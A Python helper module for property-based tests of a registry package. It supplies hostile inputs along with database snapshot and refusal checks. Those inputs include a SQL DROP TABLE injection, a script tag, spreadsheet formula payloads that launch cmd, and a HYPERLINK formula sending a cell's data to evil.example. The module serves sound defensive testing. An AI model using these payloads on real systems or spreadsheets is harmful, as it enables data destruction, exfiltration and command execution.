"""Hostile input for the property-based tests of this package (issue 9 item 2).

Every write service and the bulk upload are fed random and malicious values; each value must
be refused with `InvalidInput` (every error naming its field, with a catalogue code whose
texts format with the error's params) or stored verbatim, and a refusal must write nothing:
the row count of every table and the newest audit id stay as they were.

This module holds what both test files share: the hostile values, the database snapshot, the
check of a refusal and a tally of the examples hypothesis ran (reported by each test).
"""

from __future__ import annotations

from collections import Counter
from datetime import date, datetime
from typing import Any, Final

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlmodel import Session, SQLModel

from registry.errors import FieldError, InvalidInput
from registry.i18n import CATALOGUE, t
from registry.models import AuditEvent

SQL_INJECTION: Final = "'; DROP TABLE patient; --"
SCRIPT: Final = "<script>alert(1)</script>"
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
HUGE: Final = "x" * 100_000
NASTY_TEXT: Final = (
    SQL_INJECTION,
    SCRIPT,
    *FORMULAS,
    "\u202eevil\u202c",  # right-to-left override
    "שלום عليكم",  # RTL scripts
    "e\u0301\u0301\u0301",  # combining marks
    "👩\u200d⚕️🧬🏳️\u200d🌈",  # emoji with joiners
    "\x00",
    "a\x00b",
    "\x1b[31mred\x07",  # terminal escape and bell
    "line\r\nbreak\x0b\x0c",
    "\ud800",  # an unpaired surrogate: not encodable as UTF-8
    "\ufeffBOM",
    "",
    " ",
    "\t\n",
    "NaN",
    "null",
    "None",
    "1e400",
    "-0",
    "9" * 5000,  # beyond Python's int() digit limit
    "Ｆ",  # full-width F
    "F ",
    "%s%n%x",
    "{0}{value}{__class__}",
    HUGE,
)

BIG_INTS: Final = (2**31 - 1, 2**31, -(2**31) - 1, 2**63, 2**70, -(2**70), 10**30)

text_values = st.one_of(
    st.sampled_from(NASTY_TEXT),
    st.text(max_size=30),
    st.text(st.characters(codec="utf-8", categories=("Cc", "Cf", "Mn", "So", "Zs")), max_size=8),
)
wrong_types = st.one_of(
    st.none(),
    st.booleans(),
    st.floats(),  # NaN, inf, -0.0, 1.5 ...
    st.sampled_from([float("nan"), float("inf"), float("-inf"), 1.5, 1e308]),
    st.integers(min_value=-(10**4), max_value=10**4),
    st.sampled_from(BIG_INTS),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    st.binary(max_size=6),
    st.just({1, 2}),
    st.just((1, "a")),
)
date_values = st.one_of(
    st.dates(),
    st.sampled_from([date.min, date.max, date(1900, 1, 1), date(2100, 12, 31)]),
    st.datetimes(),
    st.just(datetime(2025, 3, 10, 0, 0)),
    st.sampled_from(["2025-03-10", "10.03.2025", "2024-02-30", "0001-01-01", "9999-12-31",
                     "tomorrow", "2025-03-10T10:30:00", "1e9", "31.12.9999", "20250310"]),
)
hostile = st.one_of(text_values, wrong_types, date_values)
"""Any value a form, a file or a careless caller could hand a service."""

HYPOTHESIS: Final = settings(
    deadline=None,
    database=None,  # nothing written into the repository
    derandomize=True,  # the same examples on every run, as the rest of the suite
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large, HealthCheck.large_base_example],
)


def sometimes(good: st.SearchStrategy[Any], bad: st.SearchStrategy[Any],
              share: float = 0.5) -> st.SearchStrategy[Any]:
    """`bad` in about `share` of the examples, else `good` (hypothesis' `one_of` would weigh
    the many branches of `hostile` against one good branch)."""
    cut = round(share * 100)
    return st.tuples(st.integers(0, 99), good, bad).map(lambda x: x[2] if x[0] < cut else x[1])


def overrides(fields: list[str], values: st.SearchStrategy[Any] = hostile, *,
              share: float = 0.6, junk: bool = True) -> st.SearchStrategy[dict[str, Any]]:
    """In about `share` of the examples, one to three fields (and, with `junk`, keys that are
    no field) set to hostile values; otherwise none."""
    extra = ["id", "version", "created_at", "registry_id", "identity_hash", SCRIPT] if junk else []
    keys = st.sampled_from([*fields, *extra])
    return sometimes(st.just({}), st.dictionaries(keys, values, min_size=1, max_size=3), share)


storable_text = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1,
                        max_size=60).filter(str.strip)
"""Text any text column stores (no NUL, no unpaired surrogate, not blank)."""


# ---- the database before and after ------------------------------------------------------------


NEWEST_AUDIT: Final = "newest audit id"


def snapshot(session: Session) -> dict[str, int]:
    """Rows of every table and the newest audit id (`NEWEST_AUDIT`), in one query."""
    tables = SQLModel.metadata.sorted_tables
    counts = [select(func.count()).select_from(table).scalar_subquery() for table in tables]
    newest = select(func.coalesce(func.max(AuditEvent.id), 0)).scalar_subquery()
    values = session.execute(select(*counts, newest)).one()
    return dict(zip([*(table.name for table in tables), NEWEST_AUDIT], values, strict=True))


def render(error: FieldError) -> str:
    """The error's text in Russian and English from the catalogue, formatted with its params
    (no fallback to the English message: a missing param fails here)."""
    assert error.code in CATALOGUE, f"{error.field}: {error.code!r} is not catalogued"
    texts = []
    for lang in ("ru", "en"):
        phrases = {name[:-4]: t(key, lang, **error.params) for name, key in error.params.items()
                   if name.endswith("_key") and isinstance(key, str) and key in CATALOGUE}
        texts.append(t(error.code, lang, **(error.params | phrases)))
    return texts[0]


def check_refusal(exc: InvalidInput) -> None:
    """Every error names a field, says something, has a catalogue code that formats."""
    assert exc.errors
    for error in exc.errors:
        assert isinstance(error.field, str) and error.field.strip(), error
        assert isinstance(error.message, str) and error.message.strip(), error
        assert error.row is None or error.row >= 1, error
        assert render(error).strip()


class Tally:
    """What the examples of one test did: ``refused``, ``stored`` or another refusal's name."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.outcomes: Counter[str] = Counter()

    @property
    def examples(self) -> int:
        return sum(self.outcomes.values())

    def add(self, outcome: str) -> None:
        self.outcomes[outcome] += 1

    def __repr__(self) -> str:
        return f"{self.name}: {self.examples} examples {dict(self.outcomes)}"


TALLIES: dict[str, Tally] = {}
"""Every test's tally by name (each test also asserts its own counts)."""


def tally(name: str) -> Tally:
    TALLIES[name] = Tally(name)
    return TALLIES[name]
